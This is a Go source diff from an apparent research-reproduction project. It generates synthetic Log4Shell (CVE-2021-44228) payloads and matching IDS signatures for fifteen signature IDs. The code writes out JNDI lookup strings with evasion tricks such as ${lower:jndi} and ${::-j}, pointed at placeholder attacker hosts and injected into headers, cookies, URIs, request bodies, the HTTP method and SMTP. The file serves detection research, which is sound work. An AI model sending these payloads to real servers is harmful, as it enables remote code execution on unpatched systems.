@@ -1,0 +1,141 @@
+package scanner
+
+import (
+	"fmt"
+	"math/rand"
+	"strings"
+
+	"repro/internal/datasets"
+)
+
+// Log4Shell exploit variants. The vulnerability can be triggered through
+// any logged input, so adversaries injected JNDI lookups into URIs, headers,
+// cookies, bodies, SMTP messages, and even the HTTP request method — and as
+// naive signatures appeared, they layered Log4j's own escape sequences
+// (`${lower:...}`, `${upper:...}`, `${::-x}`) over the `jndi` keyword to
+// slip past them. Table 6 records the five signature waves Cisco released
+// in response; this file reproduces each variant's payload shape and its
+// detecting signature, keeping every (payload, SID) pair mutually exclusive
+// so Figure 9's per-variant attribution is exact.
+
+// log4ShellVariant couples a Table 6 SID with its payload construction.
+type log4ShellVariant struct {
+	SID int
+	// Group is the Table 6 release wave (A–E).
+	Group string
+	// Token is the distinctive lookup text the signature matches and every
+	// payload of this variant contains.
+	Token string
+	// Context is where the payload lands.
+	Context datasets.Log4ShellContext
+	// Weight apportions Log4Shell's total event volume across variants.
+	// Earlier, simpler variants dominate (Finding 14: sophistication grew
+	// over days, and Figure 9 shows later variants with smaller volume).
+	Weight float64
+}
+
+// log4ShellVariants enumerates all 15 Table 6 SIDs.
+func log4ShellVariants() []log4ShellVariant {
+	return []log4ShellVariant{
+		// Group A — released 9h after publication: plain jndi plus the
+		// single-keyword lower/upper wrappers.
+		{SID: 58722, Group: "A", Token: "${jndi:", Context: datasets.CtxHTTPURI, Weight: 0.30},
+		{SID: 58723, Group: "A", Token: "${jndi:", Context: datasets.CtxHTTPHeader, Weight: 0.25},
+		{SID: 58724, Group: "A", Token: "${lower:jndi", Context: datasets.CtxHTTPHeader, Weight: 0.08},
+		{SID: 58725, Group: "A", Token: "${lower:jndi", Context: datasets.CtxHTTPURI, Weight: 0.05},
+		{SID: 58727, Group: "A", Token: "${jndi:", Context: datasets.CtxHTTPBody, Weight: 0.08},
+		{SID: 58731, Group: "A", Token: "${upper:jndi", Context: datasets.CtxHTTPHeader, Weight: 0.05},
+		// Group B — 17h: cookies, and the first $-escape evasion.
+		{SID: 300057, Group: "B", Token: "${jndi:", Context: datasets.CtxHTTPCookie, Weight: 0.05},
+		{SID: 58738, Group: "B", Token: "${${upper:j}ndi", Context: datasets.CtxHTTPHeader, Weight: 0.03},
+		// Group C — 1d15h: per-letter escape sequences for jndi itself.
+		{SID: 58739, Group: "C", Token: "${${lower:j}ndi", Context: datasets.CtxHTTPHeader, Weight: 0.03},
+		{SID: 58741, Group: "C", Token: "${${::-j}ndi:", Context: datasets.CtxHTTPBody, Weight: 0.02},
+		{SID: 58742, Group: "C", Token: "${${::-j}nd${::-i}:", Context: datasets.CtxHTTPHeader, Weight: 0.02},
+		{SID: 58744, Group: "C", Token: "${${::-jn}di:", Context: datasets.CtxHTTPURI, Weight: 0.02},
+		// Group D — 3d11h: escaped jndi in cookies, and SMTP delivery.
+		{SID: 300058, Group: "D", Token: "${${::-j}ndi:", Context: datasets.CtxHTTPCookie, Weight: 0.01},
+		{SID: 58751, Group: "D", Token: "${jndi:", Context: datasets.CtxSMTP, Weight: 0.005},
+		// Group E — 90d: injection via the HTTP request method.
+		{SID: 59246, Group: "E", Token: "${jndi:", Context: datasets.CtxHTTPMethod, Weight: 0.005},
+	}
+}
+
+// lookupFor renders a full JNDI lookup for a variant token.
+func lookupFor(token string, rng *rand.Rand) string {
+	proto := pick(rng, []string{"ldap", "ldaps", "rmi", "dns"})
+	host := pick(rng, evilHosts)
+	path := fmt.Sprintf("Exploit%d", rng.Intn(1000))
+	switch token {
+	case "${jndi:":
+		return fmt.Sprintf("${jndi:%s://%s/%s}", proto, host, path)
+	case "${lower:jndi":
+		return fmt.Sprintf("${${lower:jndi}:%s://%s/%s}", proto, host, path)
+	case "${upper:jndi":
+		return fmt.Sprintf("${${upper:jndi}:%s://%s/%s}", proto, host, path)
+	case "${${upper:j}ndi":
+		return fmt.Sprintf("${${upper:j}ndi:%s://%s/%s}", proto, host, path)
+	case "${${lower:j}ndi":
+		return fmt.Sprintf("${${lower:j}ndi:%s://%s/%s}", proto, host, path)
+	case "${${::-j}ndi:":
+		return fmt.Sprintf("${${::-j}ndi:%s://%s/%s}", proto, host, path)
+	case "${${::-j}nd${::-i}:":
+		return fmt.Sprintf("${${::-j}nd${::-i}:%s://%s/%s}", proto, host, path)
+	case "${${::-jn}di:":
+		return fmt.Sprintf("${${::-jn}di:%s://%s/%s}", proto, host, path)
+	default:
+		return fmt.Sprintf("%s%s://%s/%s}", token, proto, host, path)
+	}
+}
+
+// craftLog4Shell builds a payload for the variant.
+func craftLog4Shell(v log4ShellVariant, rng *rand.Rand) []byte {
+	lookup := lookupFor(v.Token, rng)
+	switch v.Context {
+	case datasets.CtxHTTPURI:
+		return httpGet("/?x=" + lookup)
+	case datasets.CtxHTTPHeader:
+		hdr := pick(rng, []string{"User-Agent", "X-Api-Version", "Referer", "X-Forwarded-For"})
+		return httpGet("/", hdr+": "+lookup)
+	case datasets.CtxHTTPBody:
+		return httpPost("/api/login", "username="+lookup+"&password=x")
+	case datasets.CtxHTTPCookie:
+		return httpGet("/", "Cookie: JSESSIONID="+lookup)
+	case datasets.CtxHTTPMethod:
+		return []byte(lookup + " / HTTP/1.1\r\nHost: target\r\n\r\n")
+	case datasets.CtxSMTP:
+		return []byte("EHLO scanner\r\nMAIL FROM:<probe@example.com>\r\nRCPT TO:<postmaster@target>\r\nDATA\r\nSubject: benign leading text then " + lookup + "\r\n\r\n.\r\nQUIT\r\n")
+	default:
+		return httpGet("/?x=" + lookup)
+	}
+}
+
+// log4ShellRule renders the signature for a variant.
+func log4ShellRule(v log4ShellVariant) string {
+	buffer := ""
+	switch v.Context {
+	case datasets.CtxHTTPURI:
+		buffer = "http_uri"
+	case datasets.CtxHTTPHeader:
+		buffer = "http_header"
+	case datasets.CtxHTTPBody:
+		buffer = "http_client_body"
+	case datasets.CtxHTTPCookie:
+		buffer = "http_cookie"
+	case datasets.CtxHTTPMethod:
+		buffer = "http_method"
+	case datasets.CtxSMTP:
+		buffer = "" // raw stream
+	}
+	options := ""
+	if v.Context == datasets.CtxSMTP {
+		// The SMTP signature anchors on the protocol exchange, then the
+		// lookup anywhere later in the stream (the "extraneous ignored
+		// text" adaptation of Table 6).
+		options = content("MAIL FROM", "") + "nocase; " + content(v.Token, "") + "nocase; "
+	} else {
+		options = content(v.Token, buffer) + "nocase; "
+	}
+	msg := fmt.Sprintf("SERVER-OTHER Apache Log4j logging remote code execution attempt (%s, %s)", v.Context, strings.ReplaceAll(v.Token, `"`, ``))
+	return ruleText(msg, "2021-44228", v.SID, 0, options)
+}
